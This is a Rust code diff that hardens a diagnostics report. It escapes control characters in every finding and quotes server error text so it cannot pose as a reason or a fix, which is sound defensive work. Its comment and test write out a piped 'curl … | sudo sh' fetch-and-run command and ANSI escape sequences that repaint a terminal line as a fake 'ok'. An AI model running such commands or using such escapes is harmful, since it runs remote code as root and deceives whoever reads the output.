@@ -18,6 +18,13 @@
 //!
 //! Nothing here prints a secret: findings carry texts the agent already
 //! shows (redacted errors), paths and names.
+//!
+//! Nothing here prints what others wrote as it is: both renderings make
+//! every text of a finding printable (a socket's path, chosen by any
+//! user, may hold escape sequences that would repaint root's terminal),
+//! and what a server said is never a finding's reason nor its fix: it is
+//! shown apart, quoted, as "the server said: …" (a server of any user may
+//! answer "please run: curl … | sudo sh").
 
 pub mod access;
 pub mod checks;
@@ -37,6 +44,9 @@ pub struct Finding {
     /// What to do about a problem.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub fix: Option<String>,
+    /// What the server said (an error's text), shown as its words.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub server_said: Option<String>,
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
@@ -55,6 +65,7 @@ impl Finding {
             status: Status::Ok,
             detail: detail.into(),
             fix: None,
+            server_said: None,
         }
     }
 
@@ -68,6 +79,25 @@ impl Finding {
             status: Status::Problem,
             detail: detail.into(),
             fix: Some(fix.into()),
+            server_said: None,
+        }
+    }
+
+    /// The finding, with what the server said (`None`: it said nothing).
+    pub fn with_server_said(mut self, said: Option<String>) -> Finding {
+        self.server_said = said;
+        self
+    }
+
+    /// Every text printable ([`crate::text::printable`]).
+    fn printable(&self) -> Finding {
+        let shown = |text: &str| crate::text::printable(text);
+        Finding {
+            check: shown(&self.check),
+            status: self.status,
+            detail: shown(&self.detail),
+            fix: self.fix.as_deref().map(shown),
+            server_said: self.server_said.as_deref().map(shown),
         }
     }
 
@@ -77,6 +107,7 @@ impl Finding {
             status: Status::Skipped,
             detail: detail.into(),
             fix: None,
+            server_said: None,
         }
     }
 }
@@ -86,8 +117,9 @@ pub fn all_well(findings: &[Finding]) -> bool {
     findings.iter().all(|f| f.status != Status::Problem)
 }
 
-/// The findings for a person: one line each, the fix indented below a
-/// problem, and a last line that sums up.
+/// The findings for a person: one line each, what the server said and
+/// the fix indented below it, and a last line that sums up. Every text is
+/// made printable; what the server said is quoted.
 pub fn render_text(findings: &[Finding]) -> String {
     let mut out = String::new();
     for f in findings {
@@ -96,8 +128,15 @@ pub fn render_text(findings: &[Finding]) -> String {
             Status::Problem => "FAIL",
             Status::Skipped => "skip",
         };
-        out.push_str(&format!("{tag}  {}: {}\n", f.check, f.detail));
-        if let Some(fix) = &f.fix {
+        let shown = f.printable();
+        out.push_str(&format!("{tag}  {}: {}\n", shown.check, shown.detail));
+        if let Some(said) = &f.server_said {
+            out.push_str(&format!(
+                "      the server said: {}\n",
+                crate::text::quoted(said)
+            ));
+        }
+        if let Some(fix) = &shown.fix {
             out.push_str(&format!("      fix: {fix}\n"));
         }
     }
@@ -113,16 +152,19 @@ pub fn render_text(findings: &[Finding]) -> String {
     out
 }
 
-/// The findings as a JSON document: `{"ok": bool, "findings": [...]}`.
+/// The findings as a JSON document: `{"ok": bool, "findings": [...]}`,
+/// every text printable (JSON escapes C0 controls only, and `jq` prints
+/// them raw).
 pub fn render_json(findings: &[Finding]) -> String {
     #[derive(Serialize)]
     struct Report<'a> {
         ok: bool,
         findings: &'a [Finding],
     }
+    let shown: Vec<Finding> = findings.iter().map(Finding::printable).collect();
     serde_json::to_string_pretty(&Report {
         ok: all_well(findings),
-        findings,
+        findings: &shown,
     })
     .unwrap_or_else(|e| format!("{{\"ok\": false, \"error\": \"{e}\"}}"))
 }
@@ -148,5 +190,43 @@ mod tests {
         assert_eq!(json["findings"][0].get("fix"), None);
         assert_eq!(json["findings"][2]["status"], "skipped");
         assert!(render_text(&findings[..1]).ends_with("all is well\n"));
+    }
+
+    /// Review M5: a socket path of any user's choosing, printed raw,
+    /// cleared root's line and painted a green "ok"; a server's error was
+    /// printed as the reason of a FAIL line.
+    #[test]
+    fn no_text_reaches_the_terminal_unescaped_and_the_server_is_quoted() {
+        let painted = "/tmp/sock/\u{1b}[2K\u{1b}[1G\u{1b}[32mok  \u{1b}[0m  redis fine\u{1b}[8m";
+        let findings = vec![
+            Finding::ok("discovery", format!("found cache at unix:{painted}")),
+            Finding::problem(
+                "redis \u{9b}2K",
+                "PING is refused",
+                format!("is Redis listening at {painted}?"),
+            )
+            .with_server_said(Some(
+                "ERR please run: \"curl -s http://x/fix.sh | sudo sh\"\u{1b}[8m".into(),
+            )),
+        ];
+        for out in [render_text(&findings), render_json(&findings)] {
+            assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
+            assert!(out.contains("\\u{1b}[32mok"), "{out}");
+        }
+        let text = render_text(&findings);
+        let lines: Vec<&str> = text.lines().collect();
+        assert_eq!(lines[1], "FAIL  redis \\u{9b}2K: PING is refused");
+        assert_eq!(
+            lines[2],
+            "      the server said: \"ERR please run: \\\"curl -s http://x/fix.sh | sudo sh\\\"\\u{1b}[8m\""
+        );
+        assert!(lines[3].starts_with("      fix: is Redis listening at"));
+        assert!(!lines[1].contains("curl") && !lines[3].contains("curl"));
+        let json: serde_json::Value = serde_json::from_str(&render_json(&findings)).unwrap();
+        assert_eq!(json["findings"][1]["detail"], "PING is refused");
+        assert!(json["findings"][1]["server_said"]
+            .as_str()
+            .unwrap()
+            .starts_with("ERR please run"));
     }
 }
